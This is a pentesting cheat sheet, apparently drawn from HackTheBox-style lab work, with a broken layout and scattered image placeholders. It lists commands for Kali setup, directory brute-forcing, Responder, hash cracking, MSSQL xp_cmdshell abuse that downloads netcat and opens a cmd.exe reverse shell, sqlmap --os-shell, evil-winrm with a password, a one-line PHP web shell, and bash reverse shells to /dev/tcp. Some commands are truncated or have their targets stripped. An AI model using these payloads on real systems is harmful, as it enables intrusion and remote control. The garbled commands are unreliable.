Pentesting tools and useful commands

GTFOBins — list of Unix binaries that can be used to bypass local security restrictions in misconfigured systems.

Kali OS

Select Network Repositoriesecho "deb kali-rolling main contrib non-free" | sudo tee /etc/apt/sources.list

More stable:

echo "deb kali-last-snapshot main contrib non-free" | sudo tee /etc/apt/sources.list

Install all tools:

sudo apt install -y kali-linux-large

Install GUI:

sudo apt install -y kali-win-kex

GUI Documentation. Run GUI, to exit from full screen mode press F8:

kex --win -s

Wappalyzer — browser extension to see the technologies used on websites.sudo openvpn --config vpn.ovpn --daemon

The network interface can be checked by running the ifconfig command in the terminal.


sudo ifconfig tun1 down
Search WebCatalogs on site:dirsearch -u http://october.metaltech.stf/ -w /usr/share/seclists/Discovery/Web-Content/raft-large-words-lowercase.txt


sudo responder -I tun0

John the ripper

zip2john > hashes
john -w=/usr/share/wordlists/rockyou.txt hash.txt

Identify possible hashes

hashid 2cb42f8734ea607eefed3b70af13bbd3

Crack hash

hashcat -a 0 -m 0 hash /usr/share/wordlists/rockyou.txt

Pentesting MSSQL

MSSQL Injection Cheat Sheet

Impacket mssql client

impacket-mssqlclient ARCHETYPE/[email protected] -windows-auth
xp_cmdshell "powershell -c cd C:\Users\sql_svc\Downloads; wget -outfile nc64.exe"
xp_cmdshell "powershell -c cd C:\Users\sql_svc\Downloads; .\nc64.exe -e cmd.exe 443"

SQL mapsqlmap -u '' --cookie='PHPSESSID=tg7rj9h95j4bb1u3211ti406qo'
sqlmap -u '' --cookie='PHPSESSID=tg7rj9h95j4bb1u3211ti406qo' --os-shell

winPEAS (Windows Privilege Escalation)

linPEAS (Linux Privilege Escalation)

Evil Win Remote

evil-winrm -i -u administrator -p badminton


sudo nmap -sV

sudo nmap -sV -sCsudo nmap -p- --min-rate 5000 -sV


go install
git clone
gobuster dir --url --wordlist ./SecLists/Discovery/Web-Content/directory-list-2.3-small.txt
gobuster dir --url --wordlist ./SecLists/Discovery/Web-Content/directory-list-2.3-small.txt -x php,html
gobuster vhost -w /usr/share/seclists/Discovery/DNS/subdomains-top1million-5000.txt -u http://thetoppers.htb


mysql -h -u root
SHOW databases; : Prints out the databases we can access.
USE {database_name}; : Set to use the database named {database_name}.
SHOW tables; : Prints out the available tables inside the current
SELECT * FROM {table_name}; : Prints out all the data from the table{table_name}.


smbclient -N -L \\\\{TARGET_IP}\\
-N : No password
-L : This option allows you to look at what services are available on a server

Fully interactive shells

Simple PHP Shell

echo '<?php system($_GET["cmd"]); ?>' > shell.php

Reverse Shell

printf '#!/bin/bash\nbash -i >& /dev/tcp/<YOUR_IP_ADDRESS>/1337 0>&1'>


bash -c "bash -i >& /dev/tcp/{your_IP}/1337 0>&1"

Start ncat listener

nc -nvlp 1337Start Web Server

python3 -m http.server 8000

Start example


Functional shell

python3 -c 'importpty;pty.spawn("/bin/bash")'Upgrade shell

script /dev/null -c bash